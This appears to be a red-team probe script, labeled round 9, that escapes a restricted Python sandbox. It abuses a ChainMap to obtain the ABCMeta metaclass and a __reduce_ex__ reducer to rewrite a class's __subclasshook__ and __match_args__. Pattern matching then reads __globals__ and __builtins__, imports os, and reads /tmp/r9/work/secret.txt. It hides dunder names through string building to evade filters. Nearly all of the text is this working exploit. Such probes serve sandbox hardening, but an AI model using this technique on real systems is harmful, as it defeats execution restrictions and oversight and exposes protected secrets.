# family: red team, round 9 (chainmap_lookup_key_forwarded)
# type(k) as a lookup key is allowed in "plain dicts", which include any class imported from collections
# under its own name; a ChainMap forwards the key to every mapping it chains, here the tool's own object.
import abc
import copy
from collections import ChainMap


class Base(abc.ABC):
    pass


class Keeper:
    def __init__(self):
        self.kept = []

    def __getitem__(self, key):
        self.kept.append(key)
        return 0


keeper = Keeper()


def capture(k):
    table = ChainMap(keeper)
    table[type(k)]
    return keeper.kept[-1]


def metaclass():
    return capture(Base)


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def install(target, names):
    def reducer(self, protocol):
        return (lambda: target, (), (None, names))

    maker = metaclass()("R", (), {_d("reduce_ex"): reducer})
    copy.copy(maker())


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): classmethod(lambda c, sub: True), _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r9/work/secret.txt").read().strip()


print(run())
